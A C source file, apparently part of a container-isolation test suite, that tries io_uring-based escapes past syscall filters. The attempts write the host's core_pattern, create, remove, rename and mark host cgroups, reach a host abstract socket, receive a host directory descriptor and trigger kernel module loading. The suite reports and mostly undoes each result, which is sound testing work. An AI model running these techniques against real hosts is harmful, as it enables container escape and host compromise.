// SPDX-License-Identifier: GPL-2.0-only
/*
 * System calls by io_uring: a worker thread of the kernel does them for us, and
 * no filter of system calls sees them.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "breakout.h"

#define CORE_PATTERN	"/proc/sys/kernel/core_pattern"
#define SPARE_GROUP	"/sys/fs/cgroup/" SPARE

#define MAX_REQUESTS	2

/**
 * struct ring - an io_uring
 *
 * @fd: its descriptor
 * @params: where what is
 * @sq: requests
 * @cq: results
 * @sqe: the requests themselves
 */
struct ring {
	int fd;
	struct io_uring_params params;
	char *sq;
	char *cq;
	struct io_uring_sqe *sqe;
};

static int ring_open(struct ring *ring)
{
	const int prot = PROT_READ | PROT_WRITE;
	const int flags = MAP_SHARED | MAP_POPULATE;

	memset(ring, 0, sizeof(*ring));
	ring->fd = syscall(SYS_io_uring_setup, MAX_REQUESTS, &ring->params);
	if (ring->fd < 0)
		return -1;
	ring->sq = mmap(NULL, 4096, prot, flags, ring->fd, IORING_OFF_SQ_RING);
	ring->cq = mmap(NULL, 4096, prot, flags, ring->fd, IORING_OFF_CQ_RING);
	ring->sqe = mmap(NULL, 4096, prot, flags, ring->fd, IORING_OFF_SQES);
	return 0;
}

/*
 * Not in the thread that asks, but in a worker. The first that fails is told
 * of, else what the last one gives.
 */
static int ring_run(const struct ring *ring, const struct io_uring_sqe *sqe,
		    int count)
{
	const struct io_uring_cqe *cqe =
		(void *)(ring->cq + ring->params.cq_off.cqes);
	unsigned int *array = (void *)(ring->sq + ring->params.sq_off.array);
	int i;

	for (i = 0; i < count; i++) {
		ring->sqe[i] = sqe[i];
		ring->sqe[i].flags |= IOSQE_ASYNC;
		array[i] = i;
	}
	__atomic_add_fetch((unsigned int *)(ring->sq +
					    ring->params.sq_off.tail), count,
			   __ATOMIC_SEQ_CST);
	if (syscall(SYS_io_uring_enter, ring->fd, count, count,
		    IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -1;
	for (i = 0; i < count - 1 && cqe[i].res >= 0; i++)
		;
	errno = cqe[i].res < 0 ? -cqe[i].res : 0;
	return cqe[i].res < 0 ? -1 : cqe[i].res;
}

static int ring_do(const struct io_uring_sqe *sqe)
{
	struct ring ring;
	int ret, err;

	if (ring_open(&ring))
		return -1;
	ret = ring_run(&ring, sqe, 1);
	err = errno;
	close(ring.fd);
	errno = err;
	return ret;
}

static enum breakout_outcome wrote_core(int fd)
{
	enum breakout_outcome outcome;

	if (fd < 0)
		return breakout_failed("io_uring");
	outcome = breakout_write_value(fd, "core_pattern", "breakout.%p");
	close(fd);
	return outcome;
}

static enum breakout_outcome core_openat(const struct breakout_attempt *attempt)
{
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_OPENAT,
		.fd = AT_FDCWD,
		.addr = (unsigned long)CORE_PATTERN,
		.open_flags = O_RDWR,
	};

	(void)attempt;
	return wrote_core(ring_do(&sqe));
}

static enum breakout_outcome core_openat2(const struct breakout_attempt *a)
{
	const struct open_how how = { .flags = O_RDWR };
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_OPENAT2,
		.fd = AT_FDCWD,
		.addr = (unsigned long)CORE_PATTERN,
		.len = sizeof(how),
		.off = (unsigned long)&how,
	};

	(void)a;
	return wrote_core(ring_do(&sqe));
}

/*
 * The file gets no descriptor: it is opened into a slot of the ring, and what is
 * written to that slot is written when the first request is done.
 */
static enum breakout_outcome core_linked(const struct breakout_attempt *attempt)
{
	static const char text[] = "breakout.%p";
	const struct io_uring_sqe sqe[2] = { {
		.opcode = IORING_OP_OPENAT,
		.flags = IOSQE_IO_LINK,
		.fd = AT_FDCWD,
		.addr = (unsigned long)CORE_PATTERN,
		.open_flags = O_WRONLY,
		.file_index = 1,
	}, {
		.opcode = IORING_OP_WRITE,
		.flags = IOSQE_FIXED_FILE,
		.fd = 0,
		.addr = (unsigned long)text,
		.len = sizeof(text) - 1,
	} };
	char old[512] = "", now[512] = "";
	const int none = -1;
	struct ring ring;

	(void)attempt;
	if (ring_open(&ring) || syscall(SYS_io_uring_register, ring.fd,
					IORING_REGISTER_FILES, &none, 1))
		return breakout_untried("no ring");
	breakout_read(CORE_PATTERN, old, sizeof(old));
	if (ring_run(&ring, sqe, 2) < 0)
		return breakout_failed("io_uring");
	breakout_read(CORE_PATTERN, now, sizeof(now));
	breakout_write(CORE_PATTERN, old);
	if (strcmp(now, text))
		return breakout_untried("core_pattern is %s", now);
	return breakout_escaped("core_pattern became %s", text);
}

static enum breakout_outcome group_mkdir(const struct breakout_attempt *attempt)
{
	static const char path[] = "/sys/fs/cgroup/breakout-uring";
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_MKDIRAT,
		.fd = AT_FDCWD,
		.addr = (unsigned long)path,
		.len = 0755,
	};

	(void)attempt;
	if (ring_do(&sqe))
		return breakout_failed("io_uring");
	if (rmdir(path))
		return breakout_untried("it is not there");
	return breakout_escaped("made a cgroup at the top");
}

static enum breakout_outcome group_rmdir(const struct breakout_attempt *attempt)
{
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_UNLINKAT,
		.fd = AT_FDCWD,
		.addr = (unsigned long)LOST_GROUP,
		.unlink_flags = AT_REMOVEDIR,
	};

	(void)attempt;
	if (ring_do(&sqe))
		return breakout_failed("io_uring");
	if (mkdir(LOST_GROUP, 0755))
		return breakout_untried("it does not come back");
	return breakout_escaped("removed a cgroup of the host");
}

static enum breakout_outcome group_rename(const struct breakout_attempt *a)
{
	const char *dir = access(CGROUP1, F_OK) ? HOST_CGROUP1 : CGROUP1;
	char from[128], to[128];
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_RENAMEAT,
		.fd = AT_FDCWD,
		.addr = (unsigned long)from,
		.len = AT_FDCWD,
		.off = (unsigned long)to,
	};

	(void)a;
	snprintf(from, sizeof(from), "%s/" SPARE, dir);
	snprintf(to, sizeof(to), "%s/renamed", dir);
	if (ring_do(&sqe))
		return breakout_failed("io_uring");
	if (rename(to, from))
		return breakout_untried("it does not come back");
	return breakout_escaped("renamed a cgroup of the host");
}

static enum breakout_outcome group_mark(const struct breakout_attempt *attempt)
{
	static const char name[] = "trusted.breakout";
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_SETXATTR,
		.addr = (unsigned long)name,
		.len = 1,
		.off = (unsigned long)"1",
		.addr3 = (unsigned long)SPARE_GROUP,
	};

	(void)attempt;
	if (ring_do(&sqe))
		return breakout_failed("io_uring");
	if (removexattr(SPARE_GROUP, name))
		return breakout_untried("it did not stay");
	return breakout_escaped("marked a cgroup of the host");
}

static int reach(const struct sockaddr_un *at, socklen_t len)
{
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_CONNECT,
		.fd = fd,
		.addr = (unsigned long)at,
		.off = len,
	};

	return ring_do(&sqe) ? -1 : fd;
}

static enum breakout_outcome abstract(const struct breakout_attempt *attempt)
{
	static const char name[] = "\0" DOOR_ABSTRACT;
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	int fd;

	(void)attempt;
	memcpy(at.sun_path, name, sizeof(name) - 1);
	fd = reach(&at, offsetof(struct sockaddr_un, sun_path) +
		   sizeof(name) - 1);
	if (fd < 0)
		return breakout_failed("io_uring");
	close(fd);
	return breakout_escaped("reached a service of the host");
}

/* As breakout_receive(), but for who takes it. */
static enum breakout_outcome receive(const struct breakout_attempt *attempt)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	union {
		struct cmsghdr head;
		char space[CMSG_SPACE(sizeof(int))];
	} control = { };
	char byte = DOOR_ROOT;
	struct iovec data = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr message = {
		.msg_iov = &data,
		.msg_iovlen = 1,
		.msg_control = &control,
		.msg_controllen = sizeof(control),
	};
	struct io_uring_sqe sqe = {
		.opcode = IORING_OP_RECVMSG,
		.addr = (unsigned long)&message,
		.len = 1,
	};
	int fd;

	(void)attempt;
	snprintf(at.sun_path, sizeof(at.sun_path), "%s/" DOOR,
		 breakout_volume());
	sqe.fd = reach(&at, sizeof(at));
	if (sqe.fd < 0 || write(sqe.fd, &byte, 1) != 1)
		return breakout_untried("nobody answers");
	if (ring_do(&sqe) < 0)
		return breakout_failed("io_uring");
	if (!CMSG_FIRSTHDR(&message)) {
		errno = message.msg_flags & MSG_CTRUNC ? EPERM : ENOMSG;
		return breakout_failed("io_uring");
	}
	memcpy(&fd, CMSG_DATA(&control.head), sizeof(fd));
	return breakout_prove_at(fd, &HOST_SECRET[1], &HOST_MARK[1]);
}

/*
 * setsockopt(TCP_CONGESTION) as a command of the socket. Headers older than that
 * do not name its fields.
 */
static enum breakout_outcome autoload(const struct breakout_attempt *attempt)
{
	static const char name[] = "dctcp";
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_URING_CMD,
		.fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0),
		.off = 3, /* SOCKET_URING_OP_SETSOCKOPT */
		.addr = IPPROTO_TCP | (unsigned long)TCP_CONGESTION << 32,
		.file_index = sizeof(name) - 1,
		.addr3 = (unsigned long)name,
	};

	(void)attempt;
	if (breakout_module_loaded("tcp_dctcp"))
		return breakout_untried("dctcp is in use");
	if (ring_do(&sqe) && errno == EOPNOTSUPP)
		return breakout_absent("commands of sockets");
	close(sqe.fd);
	return breakout_autoloaded("tcp_dctcp", ENOENT, "io_uring");
}

const struct breakout_attempt breakout_ring[] = {
	{ "core-pattern-uring", "write core_pattern through io_uring",
	  core_openat },
	{ "core-pattern-uring2", "the same by openat2()", core_openat2 },
	{ "core-pattern-uring-linked", "the same in a slot of the ring",
	  core_linked },
	{ "autoload-uring", "have a command of a socket load a module",
	  autoload },
	{ "cgroup2-mkdir-uring", "make a cgroup of the host through io_uring",
	  group_mkdir },
	{ "cgroup2-rmdir-uring", "remove one", group_rmdir },
	{ "cgroup1-rename-uring", "rename one", group_rename },
	{ "cgroup2-xattr-uring", "mark one", group_mark },
	{ "abstract-socket-uring", "an abstract socket of the host", abstract },
	{ "received-root-uring", "the host's files by a directory received",
	  receive },
	{ }
};
